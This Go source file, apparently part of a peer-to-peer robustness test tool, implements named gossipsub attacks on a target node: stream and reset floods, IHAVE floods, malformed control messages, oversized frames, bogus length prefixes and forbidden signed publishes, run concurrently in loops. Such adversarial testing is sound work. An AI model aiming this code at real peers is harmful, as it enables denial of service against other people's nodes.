package main

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"github.com/golang/snappy"
	pubsub "github.com/libp2p/go-libp2p-pubsub"
	pb "github.com/libp2p/go-libp2p-pubsub/pb"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
	"google.golang.org/protobuf/proto"
)

const gossipProtocol = "/meshsub/1.1.0"

func idOf(name string) protocol.ID { return protocol.ID(name) }

func random(size int) []byte {
	bytes := make([]byte, size)
	// It never fails.
	_, _ = rand.Read(bytes)
	return bytes
}

// A vote of the right size, with random content.
func vote() []byte { return snappy.Encode(nil, random(3252)) }

// Sends once. It is called again and again.
type attack func(ctx context.Context, h host.Host, to peer.ID) error

func onStream(name string, use func(network.Stream) error) attack {
	return func(ctx context.Context, h host.Host, to peer.ID) error {
		stream, err := h.NewStream(ctx, to, idOf(name))
		if err != nil {
			return err
		}
		return use(stream)
	}
}

func rpc(message *pb.RPC) attack {
	return onStream(gossipProtocol, func(stream network.Stream) error {
		defer stream.Close()
		bytes, err := proto.Marshal(message)
		if err != nil {
			return err
		}
		bytes = append(binary.AppendUvarint(nil, uint64(len(bytes))), bytes...)
		for range 20 {
			if _, err := stream.Write(bytes); err != nil {
				return err
			}
		}
		return nil
	})
}

func published(data func() []byte) attack {
	topic := topicOf("attestation")
	return func(ctx context.Context, h host.Host, to peer.ID) error {
		return rpc(&pb.RPC{Publish: []*pb.Message{{Data: data(), Topic: &topic}}})(ctx, h, to)
	}
}

func control(message *pb.ControlMessage) attack { return rpc(&pb.RPC{Control: message}) }

var attacks = map[string]func() attack{
	"streams": func() attack {
		return onStream(byRootProtocol, func(stream network.Stream) error { return nil })
	},
	"resets": func() attack {
		return onStream(byRootProtocol, func(stream network.Stream) error { return stream.Reset() })
	},
	"ihave": func() attack {
		topic, ids := topicOf("block"), []string{}
		for range 700 {
			ids = append(ids, string(random(20)))
		}
		return control(&pb.ControlMessage{Ihave: []*pb.ControlIHave{{TopicID: &topic, MessageIDs: ids}}})
	},
	"iwant": func() attack {
		return control(&pb.ControlMessage{Iwant: []*pb.ControlIWant{{MessageIDs: []string{string(random(20)), "short", ""}}}})
	},
	"grafts": func() attack {
		topic := topicOf("block")
		return control(&pb.ControlMessage{
			Graft: []*pb.ControlGraft{{TopicID: &topic}, {TopicID: &topic}}, Prune: []*pb.ControlPrune{{TopicID: &topic}},
		})
	},
	"no_snappy": func() attack { return published(func() []byte { return random(1000) }) },
	"no_vote":   func() attack { return published(vote) },
	"oversized": func() attack {
		return onStream(gossipProtocol, func(stream network.Stream) error {
			defer stream.Close()
			_, err := stream.Write(append(binary.AppendUvarint(nil, 17<<20), make([]byte, 17<<20)...))
			return err
		})
	},
	"lengths": func() attack {
		return onStream(byRootProtocol, func(stream network.Stream) error {
			defer stream.Close()
			_, err := stream.Write(append(binary.AppendUvarint(nil, 1<<40), random(1000)...))
			return err
		})
	},
}

// Makes the attack of a host that is not connected yet.
type preparation func(ctx context.Context, h host.Host) (attack, error)

// Publishes signed messages, which the network forbids, by an ordinary gossipsub. It must run before the host connects:
// the other side tells its subscriptions once, and gossipsub publishes to nobody whose subscriptions it has not heard.
func signed(ctx context.Context, h host.Host) (attack, error) {
	gossip, err := newGossip(ctx, h, pubsub.WithMessageSignaturePolicy(pubsub.StrictSign), pubsub.WithMessageAuthor(h.ID()))
	if err != nil {
		return nil, err
	}
	topic, err := gossip.Join(topicOf("attestation"))
	if err != nil {
		return nil, err
	}
	return func(ctx context.Context, _ host.Host, _ peer.ID) error {
		time.Sleep(20 * time.Millisecond)
		return topic.Publish(ctx, vote())
	}, nil
}

func attackAs(ctx context.Context, target peer.AddrInfo, status []byte, name string, prepare preparation) error {
	h, err := newHost(name)
	if err != nil {
		return err
	}
	defer h.Close()
	n := &node{host: h, status: status}
	n.answer(statusProtocol, func(peer.ID, []byte) [][]byte { return [][]byte{status} })
	h.SetStreamHandler(gossipProtocol, func(stream network.Stream) { <-ctx.Done() })
	once, err := prepare(ctx, h)
	if err != nil {
		return err
	}
	var connections, failures, times atomic.Int64
	go stayConnected(ctx, h, target, func() { connections.Add(1); n.askForStatus(target.ID) })
	for ctx.Err() == nil {
		if h.Network().Connectedness(target.ID) != network.Connected {
			time.Sleep(50 * time.Millisecond)
			continue
		}
		short, cancel := context.WithTimeout(ctx, time.Second)
		times.Add(1)
		if once(short, h, target.ID) != nil {
			failures.Add(1)
		}
		cancel()
	}
	say("attacked", fields{"name": name, "connections": connections.Load(), "times": times.Load(), "failures": failures.Load()})
	return nil
}

func attackAll(ctx context.Context, target peer.AddrInfo, status []byte, names []string, duration time.Duration) error {
	ctx, cancel := context.WithTimeout(ctx, duration)
	defer cancel()
	var all sync.WaitGroup
	results := make(chan error, len(names))
	for _, name := range names {
		prepare := preparation(signed)
		if name != "signed" {
			begin, ok := attacks[name]
			if !ok {
				return fmt.Errorf("no attack is named %q", name)
			}
			prepare = func(context.Context, host.Host) (attack, error) { return begin(), nil }
		}
		all.Add(1)
		go func() {
			defer all.Done()
			results <- attackAs(ctx, target, status, name, prepare)
		}()
	}
	all.Wait()
	close(results)
	for err := range results {
		if err != nil {
			return err
		}
	}
	return nil
}
